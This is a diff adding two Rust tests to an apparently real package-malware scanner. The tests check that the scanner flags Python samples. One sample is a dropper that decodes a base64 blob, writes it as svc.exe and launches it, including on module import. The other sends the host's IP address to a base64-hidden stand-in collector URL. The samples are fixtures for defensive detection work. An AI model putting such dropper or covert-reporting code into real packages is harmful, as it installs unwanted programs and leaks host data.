@@ -1728,3 +1728,43 @@ fn code_run_by_python_c_from_a_variable_and_extensionless_scripts_are_read() {
     assert!(!rules("scripts/tool", &sh).contains(&"exec-decoded"));
     assert!(!rules("scripts/tool.txt", script).contains(&"exec-decoded"));
 }
+
+/// A program carried as data, decoded, written under an executable's name
+/// and started in the same function is a dropper: critical while the
+/// module loads, high when a caller asks. Decoded data written to a file
+/// that is no program, or a program started in another function, is not.
+/// Written for the test.
+#[test]
+fn a_decoded_program_written_and_started_is_a_dropper() {
+    let level = |src: &str| {
+        let report = scan(&ManifestFacts::default(), &[Entry { path: "pkg/__init__.py", bytes: src.as_bytes() }]);
+        report.findings.iter().find(|f| f.rule == "decoded-dropper").map(|f| f.severity)
+    };
+    let body = "import base64, zlib, os, subprocess, tempfile\nBLOB = 'eJwLycgsVgCiRIWS1OISAC0wBYk='\n\
+                def drop():\n    data = zlib.decompress(base64.b64decode(BLOB))\n    \
+                path = os.path.join(tempfile.gettempdir(), 'svc' + '.exe')\n    \
+                with open(path, 'wb') as f:\n        f.write(data)\n    subprocess.Popen(path)\n";
+    assert_eq!(level(body), Some(Severity::High), "{body}");
+    assert_eq!(level(&format!("{body}drop()\n")), Some(Severity::Critical));
+    let image = body.replace("'svc' + '.exe'", "'logo' + '.png'");
+    assert_eq!(level(&image), None, "{image}");
+    let apart = body.replace("    subprocess.Popen(path)\n", "def start(p):\n    subprocess.Popen(p)\n");
+    assert_eq!(level(&apart), None, "{apart}");
+}
+
+/// Who runs the code sent to an address decoded at run time is high even
+/// when a caller asks: the code hides where it reports. To an address
+/// written out, on request, it stays a medium note. Written for the test.
+#[test]
+fn host_identity_sent_to_a_hidden_address_is_high() {
+    let level = |src: &str| {
+        let report = scan(&ManifestFacts::default(), &[Entry { path: "pkg/net.py", bytes: src.as_bytes() }]);
+        report.findings.iter().filter(|f| f.rule == "host-identity-sent").map(|f| f.severity).max()
+    };
+    let hidden = "import base64, socket, requests\ndef report():\n    ip = socket.gethostbyname(socket.gethostname())\n    \
+                  requests.post(base64.b64decode(b'aHR0cHM6Ly9jb2xsZWN0b3IuZXhhbXBsZS5pbnZhbGlkL3NldA==').decode(), json={'ip': ip})\n";
+    assert_eq!(level(hidden), Some(Severity::High), "{hidden}");
+    let written = "import socket, requests\ndef report():\n    ip = socket.gethostbyname(socket.gethostname())\n    \
+                   requests.post('https://telemetry.example.invalid/set', json={'ip': ip})\n";
+    assert_eq!(level(written), Some(Severity::Medium), "{written}");
+}
